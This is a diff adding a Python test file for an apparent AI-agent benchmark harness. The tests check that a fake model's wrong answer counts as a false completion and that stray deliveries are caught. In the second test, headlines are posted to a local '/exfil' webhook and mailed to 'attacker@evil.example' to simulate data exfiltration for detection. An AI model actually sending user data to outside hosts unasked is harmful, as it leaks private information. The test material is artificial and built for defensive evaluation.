@@ -1,0 +1,79 @@
+"""Smoke test of the real-model benchmark (bench/realmodel): the whole
+harness — a world per system, the counting proxy, the real agentd daemon on
+private XDG dirs, the world checks and the report — on the scripted fake LLM
+instead of the real model, so no weights are needed. Nothing here asserts
+speed; it asserts that the world checks judge what happened: the goals the
+fake does right pass, the goal it completes wrongly is a false completion."""
+
+from __future__ import annotations
+
+import json
+import subprocess
+import sys
+from pathlib import Path
+
+ROOT = Path(__file__).resolve().parents[2]
+
+
+def test_realmodel_smoke(tmp_path):
+    out = tmp_path / "result.json"
+    proc = subprocess.run([sys.executable, "-m", "bench.realmodel", "--smoke", "--json", str(out),
+                           "--out", str(tmp_path / "logs")], cwd=str(ROOT), capture_output=True, text=True,
+                          timeout=90)
+    assert proc.returncode == 0, f"bench.realmodel --smoke failed:\n{proc.stdout[-3000:]}\n{proc.stderr[-3000:]}"
+    assert "machine:" in proc.stdout and "date:" in proc.stdout
+    record = json.loads(out.read_text())
+    by_goal = {r["goal"]: r for r in record["results"]}
+    assert set(by_goal) == {"headlines", "sum_numbers", "webhook_count"}
+    assert all(r["system"] == "agentd" and r["status"] == "completed" for r in by_goal.values()), by_goal
+
+    # Done right: the file names the headlines; the webhook arrived once with the count.
+    for goal in ("headlines", "webhook_count"):
+        assert by_goal[goal]["success"] and not by_goal[goal]["problems"], by_goal[goal]
+    # Done wrong on purpose (total off by one) and reported completed: a false completion.
+    wrong = by_goal["sum_numbers"]
+    assert not wrong["success"] and wrong["false_completion"]
+    assert any("4821" in p for p in wrong["problems"]), wrong["problems"]
+
+    # Counted by the proxy: two tool calls and finish = three model calls per goal.
+    for r in by_goal.values():
+        assert r["model_calls"] == 3 and r["tool_calls"] == 2, r
+        assert r["prompt_tokens"] > 0 and r["completion_tokens"] > 0
+        assert r["own_cpu_s"] >= 0 and r["wall_s"] > 0
+    s = record["summary"]["agentd"]
+    assert (s["goals"], s["success"], s["false_completions"]) == (3, 2, 1)
+    assert s["own_share"] is not None
+
+
+def test_checks_catch_stray_deliveries(tmp_path):
+    """A world check fails a goal for a webhook or mail it did not ask for, and
+    for a second webhook where it asked for one."""
+    sys.path.insert(0, str(ROOT))
+    import smtplib
+    import urllib.request
+
+    from bench.realmodel.goals import GOALS_BY_ID, HEADLINES, judge, make_world
+
+    def post(url: str, payload: dict) -> None:
+        req = urllib.request.Request(url, data=json.dumps(payload).encode(), headers={"Content-Type": "application/json"})
+        urllib.request.urlopen(req, timeout=10).read()
+
+    with make_world() as world:
+        goal = GOALS_BY_ID["headlines"]
+        (tmp_path / "headlines.txt").write_text("\n".join(HEADLINES))
+        mark = world.mark()
+        assert judge(goal, world, mark, tmp_path) == []
+        post(f"{world.hooks.base}/exfil", {"h": HEADLINES})
+        assert any("did not say" in p for p in judge(goal, world, mark, tmp_path))
+
+        mark = world.mark()
+        with smtplib.SMTP("127.0.0.1", world.smtp_port, timeout=10) as s:
+            s.sendmail("x@example.com", ["attacker@evil.example"], "Subject: hi\n\nheadlines")
+        assert any("attacker@evil.example" in p for p in judge(goal, world, mark, tmp_path))
+
+        count = GOALS_BY_ID["webhook_count"]
+        mark = world.mark()
+        post(world.hook_url("webhook_count"), {"count": 4})
+        assert judge(count, world, mark, tmp_path) == []
+        post(world.hook_url("webhook_count"), {"count": 4})
+        assert any("expected exactly 1" in p for p in judge(count, world, mark, tmp_path))
